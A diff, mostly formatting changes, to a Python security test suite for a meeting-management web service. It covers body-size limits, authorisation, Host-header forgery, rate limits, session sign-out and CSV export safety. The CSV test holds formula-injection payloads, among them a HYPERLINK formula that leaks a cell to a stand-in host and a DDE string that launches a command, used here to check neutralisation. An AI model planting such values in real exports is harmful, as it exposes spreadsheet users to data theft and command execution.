@@ -52,6 +52,7 @@ def token_for(c: Collector, name: str, role: str, bodies: list[str]) -> dict[str
 
 # -- item 1: bodies bounded before they are read ------------------------------------------------------
 
+
 def test_huge_chunked_bodies_are_refused_before_they_fill_memory(collector: Collector) -> None:
     """Four 128 MiB chunked POSTs without credentials (actions), and big ones with credentials
     (actions, self-test result, media path offer): each is answered 401/413 long before its end, and
@@ -88,15 +89,24 @@ def test_huge_chunked_bodies_are_refused_before_they_fill_memory(collector: Coll
 
 
 def test_declared_oversized_body_is_413_and_a_normal_action_still_works(collector: Collector) -> None:
-    r = httpx.post(f"{collector.base}/api/meetings/ks-test/actions", headers=collector.headers,
-                   content=b'{"kind": "item_start", "item": "' + b"x" * 20_000 + b'"}', timeout=10)
+    r = httpx.post(
+        f"{collector.base}/api/meetings/ks-test/actions",
+        headers=collector.headers,
+        content=b'{"kind": "item_start", "item": "' + b"x" * 20_000 + b'"}',
+        timeout=10,
+    )
     assert r.status_code == 413 and r.json()["limit_bytes"] == 16 * 1024
-    ok = httpx.post(f"{collector.base}/api/meetings/ks-test/actions", headers=collector.headers,
-                    json={"kind": "item_start", "item": "§ 1"}, timeout=10)
+    ok = httpx.post(
+        f"{collector.base}/api/meetings/ks-test/actions",
+        headers=collector.headers,
+        json={"kind": "item_start", "item": "§ 1"},
+        timeout=10,
+    )
     assert ok.status_code == 201, ok.text
 
 
 # -- item 2: a chair's media path offer only for their own bodies' meetings ------------------------------
+
 
 def test_chair_of_one_body_cannot_offer_a_media_path_for_another_bodys_device(collector: Collector) -> None:
     ks_chair = token_for(collector, "ks-chair", "chair", ["kommunstyrelsen"])
@@ -105,8 +115,12 @@ def test_chair_of_one_body_cannot_offer_a_media_path_for_another_bodys_device(co
         r = httpx.post(f"{collector.base}/api/mediapath/offer", headers=ks_chair, json=body, timeout=10)
         assert r.status_code == 403, (body, r.text)
     # their own body's device gets past the guard (this SDP is no real offer: 400 from the peer)
-    own = httpx.post(f"{collector.base}/api/mediapath/offer", headers=ks_chair, timeout=10,
-                     json={**offer, "device_id": "dev-a", "meeting_id": "ks-test"})
+    own = httpx.post(
+        f"{collector.base}/api/mediapath/offer",
+        headers=ks_chair,
+        timeout=10,
+        json={**offer, "device_id": "dev-a", "meeting_id": "ks-test"},
+    )
     assert own.status_code == 400, own.text
     zoe = collector.participant("sn-test", "zoe")
     assert zoe["state"] != "failing" and not zoe.get("mediapath")
@@ -127,34 +141,46 @@ def test_action_times_must_be_real_times(collector: Collector) -> None:
     """Item 13: NaN, ±Infinity and -1e308 are refused (422), nothing recorded."""
     before = len(collector.api("/api/meetings/ks-test/actions"))
     for at in ("NaN", "Infinity", "-Infinity", "-1e308", "1e308"):
-        r = httpx.post(f"{collector.base}/api/meetings/ks-test/actions", timeout=5,
-                       headers={**collector.headers, "Content-Type": "application/json"},
-                       content=f'{{"kind": "item_start", "item": "x", "at": {at}}}')
+        r = httpx.post(
+            f"{collector.base}/api/meetings/ks-test/actions",
+            timeout=5,
+            headers={**collector.headers, "Content-Type": "application/json"},
+            content=f'{{"kind": "item_start", "item": "x", "at": {at}}}',
+        )
         assert r.status_code == 422, (at, r.text)
     assert len(collector.api("/api/meetings/ks-test/actions")) == before
 
 
 def test_selftest_links_use_the_configured_address_not_the_host_header(collector: Collector) -> None:
     """Item 13: a forged Host header must not end up in the links the secretary mails out."""
-    r = httpx.get(f"{collector.base}/api/meetings/ks-test/selftest-links", timeout=5,
-                  headers={**collector.headers, "Host": "evil.example"})
+    r = httpx.get(
+        f"{collector.base}/api/meetings/ks-test/selftest-links",
+        timeout=5,
+        headers={**collector.headers, "Host": "evil.example"},
+    )
     assert r.status_code == 200
     urls = [x["url"] for x in r.json()]
     assert urls and all(u.startswith(collector.base + "/selftest/") for u in urls), urls
 
 
 def test_after_the_attacks_the_collector_still_serves(collector: Collector) -> None:
-    until(lambda: httpx.get(collector.base + "/api/health", headers=collector.headers, timeout=5).status_code == 200,
-          10, "health")
+    until(
+        lambda: httpx.get(collector.base + "/api/health", headers=collector.headers, timeout=5).status_code == 200,
+        10,
+        "health",
+    )
 
 
 # -- item 5: a self-test link cannot fill the disk ------------------------------------------------------
 
+
 def test_one_link_records_a_few_results_then_429(collector: Collector) -> None:
     link = selftest_link(collector, "bo")
-    body = {"started_at": time.time() - 5, "duration_s": 5.0,
-            "checks": [{"id": "network.rtt", "status": "pass", "value": 20.0, "unit": "ms",
-                        "summary": "x" * 2000}] * 28}
+    body = {
+        "started_at": time.time() - 5,
+        "duration_s": 5.0,
+        "checks": [{"id": "network.rtt", "status": "pass", "value": 20.0, "unit": "ms", "summary": "x" * 2000}] * 28,
+    }
     statuses: list[int] = []
     with witness(collector) as w:
         for _ in range(30):
@@ -190,12 +216,19 @@ def test_slow_readers_cannot_block_the_speed_test_for_members_or_other_clients(c
             finally:
                 reset(member)
                 reset(other)
-            up = httpx.post(f"{collector.base}/speedtest/upload.php", content=b"u" * 100_000,
-                            headers={"X-Selftest-Token": link}, timeout=10)
+            up = httpx.post(
+                f"{collector.base}/speedtest/upload.php",
+                content=b"u" * 100_000,
+                headers={"X-Selftest-Token": link},
+                timeout=10,
+            )
             assert up.status_code == 200 and up.text == "size=100000"
             # the slow readers are dropped after the stall timeout: their slots come back
-            until(lambda: collector.api("/api/web/counters")["pages"].get("speedtest_stalled", 0) >= 1, 40,
-                  "a stalled download ended")
+            until(
+                lambda: collector.api("/api/web/counters")["pages"].get("speedtest_stalled", 0) >= 1,
+                40,
+                "a stalled download ended",
+            )
         finally:
             for s in readers:
                 reset(s)
@@ -213,31 +246,40 @@ def test_a_reset_download_writes_at_most_one_log_line(collector: Collector) -> N
             got += len(s.recv(65536))
         reset(s)
     time.sleep(2.0)  # anything the aborts would still log
-    new = log.read_text(errors="replace").splitlines()[len(before):]
+    new = log.read_text(errors="replace").splitlines()[len(before) :]
     assert len(new) <= 3, f"{len(new)} log lines: {new[:5]}"
     assert not any("socket.send() raised exception" in line for line in new)
-    until(lambda: collector.api("/api/web/counters")["pages"].get("speedtest_aborted", 0) >= 3, 20,
-          "three aborted downloads counted")
+    until(
+        lambda: collector.api("/api/web/counters")["pages"].get("speedtest_aborted", 0) >= 3,
+        20,
+        "three aborted downloads counted",
+    )
 
 
 # -- item 8: CSV exports are data, not formulas --------------------------------------------------------
 
+
 def test_report_csv_neutralises_formulas_from_free_text(collector: Collector) -> None:
     evil = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'
-    for body in ({"kind": "item_start", "item": evil, "by": "@SUM(1+1)"},
-                 {"kind": "adjourn", "by": "+cmd|' /C calc'!A0", "note": "-2+3"},
-                 {"kind": "resume", "by": "\t=1+1"}):
-        r = httpx.post(f"{collector.base}/api/meetings/ks-test/actions", headers=collector.headers, json=body,
-                       timeout=10)
+    for body in (
+        {"kind": "item_start", "item": evil, "by": "@SUM(1+1)"},
+        {"kind": "adjourn", "by": "+cmd|' /C calc'!A0", "note": "-2+3"},
+        {"kind": "resume", "by": "\t=1+1"},
+    ):
+        r = httpx.post(
+            f"{collector.base}/api/meetings/ks-test/actions", headers=collector.headers, json=body, timeout=10
+        )
         assert r.status_code == 201, r.text
-    r = httpx.get(f"{collector.base}/it/meetings/ks-test/report", params={"format": "csv"},
-                  headers=collector.headers, timeout=10)
+    r = httpx.get(
+        f"{collector.base}/it/meetings/ks-test/report", params={"format": "csv"}, headers=collector.headers, timeout=10
+    )
     assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
     cells = [c for row in csv.reader(io.StringIO(r.text)) for c in row]
     assert "'+cmd|' /C calc'!A0" in cells, r.text[:2000]  # the adjournment's free-text "by"
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], r.text[:2000]
-    incidents = httpx.get(f"{collector.base}/api/incidents", params={"format": "csv"}, headers=collector.headers,
-                          timeout=10)
+    incidents = httpx.get(
+        f"{collector.base}/api/incidents", params={"format": "csv"}, headers=collector.headers, timeout=10
+    )
     assert incidents.status_code == 200
     assert not [c for row in csv.reader(io.StringIO(incidents.text)) for c in row if c[:1] in ("=", "+", "@")]
 
@@ -251,6 +293,7 @@ def test_csv_cell_rules() -> None:
 
 
 # -- item 9: a session ends with the password, the body and the sign-out -------------------------------
+
 
 def sign_in_http(c: Collector, username: str, password: str = PASSWORD) -> httpx.Client:
     client = httpx.Client(base_url=c.base, timeout=10)
@@ -292,8 +335,9 @@ def test_sessions_end_on_password_change_body_removal_and_sign_out(collector: Co
         t = threading.Thread(target=listen, daemon=True)
         t.start()
         until(lambda: "event: view" in events, 10, "the stream's first view")
-        logout = httpx.post(f"{collector.base}/logout", cookies=out.cookies, headers={"X-CSRF-Token": csrf[1]},
-                            timeout=10)
+        logout = httpx.post(
+            f"{collector.base}/logout", cookies=out.cookies, headers={"X-CSRF-Token": csrf[1]}, timeout=10
+        )
         assert logout.status_code == 303
         assert ended.wait(15), "the live view kept streaming after sign-out"
         assert "event: signed_out" in events
@@ -302,8 +346,9 @@ def test_sessions_end_on_password_change_body_removal_and_sign_out(collector: Co
             client.close()
 
 
-def test_chair_view_in_chromium_leaves_for_the_sign_in_page_when_the_session_ends(collector: Collector,
-                                                                                   browser: Any) -> None:
+def test_chair_view_in_chromium_leaves_for_the_sign_in_page_when_the_session_ends(
+    collector: Collector, browser: Any
+) -> None:
     auth.add_user(collector.data / "users.toml", "ordf-chromium", PASSWORD, "chair", bodies=["kommunstyrelsen"])
     page = sign_in(browser, collector.base, "ordf-chromium", path="/chair/ks-test")
     try:
@@ -311,8 +356,7 @@ def test_chair_view_in_chromium_leaves_for_the_sign_in_page_when_the_session_end
         page.wait_for_function("document.querySelector('#conn') !== null")
         csrf = page.evaluate("JSON.parse(document.getElementById('boot').textContent).csrf")
         # signed out from another tab of the same browser
-        r = page.context.request.post(f"{collector.base}/logout", headers={"X-CSRF-Token": csrf},
-                                      max_redirects=0)
+        r = page.context.request.post(f"{collector.base}/logout", headers={"X-CSRF-Token": csrf}, max_redirects=0)
         assert r.status == 303
         page.wait_for_url("**/login?next=*", timeout=15_000)
         assert "/chair/ks-test" not in page.url.split("?")[0]
